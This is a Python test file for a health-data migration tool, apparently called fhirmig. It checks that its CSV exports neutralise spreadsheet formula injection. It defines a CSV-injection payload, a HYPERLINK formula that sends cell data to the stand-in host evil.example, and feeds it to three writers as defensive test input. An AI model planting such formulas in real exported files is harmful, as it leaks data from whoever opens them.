"""Every CSV fhirmig writes is safe to open in a spreadsheet: no cell starts a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fhirmig.app.deidentify import _mapping_csv
from fhirmig.batch.inputs import BatchInput
from fhirmig.batch.runner import write_mapping
from fhirmig.diary.csvsafe import FORMULA_START
from fhirmig.privacy.safeharbor import SafeHarborTables, write_tables

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


def _cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    return [cell for row in rows for cell in row]


def _no_formula(data: bytes) -> list[str]:
    cells = _cells(data)
    assert not [c for c in cells if c and c[0] in FORMULA_START], cells
    return cells


def test_the_deidentify_mapping_neutralises_formulas() -> None:
    cells = _no_formula(_mapping_csv([("S-1", EVIL + ".json", "@SUM(1)"), ("S-2", "-x", "+1")]))
    assert "'" + EVIL + ".json" in cells and "'@SUM(1)" in cells


def test_the_batch_mapping_neutralises_formulas(tmp_path: Path) -> None:
    path = tmp_path / "mapping.csv"
    write_mapping(path, [BatchInput(EVIL + ".json", "/in/x.json"), BatchInput("ok.json", "/o")])
    cells = _no_formula(path.read_bytes())
    assert cells[:2] == ["input", "name"] and "'" + EVIL + ".json" in cells


def test_the_safe_harbor_tables_neutralise_formulas() -> None:
    tables = SafeHarborTables(("study_code", "birth_year"), [("S-1", "1988"), ("S-2", EVIL)])
    patients, _, _ = write_tables(tables)
    cells = _no_formula(patients)
    assert "1988" in cells and "'" + EVIL in cells
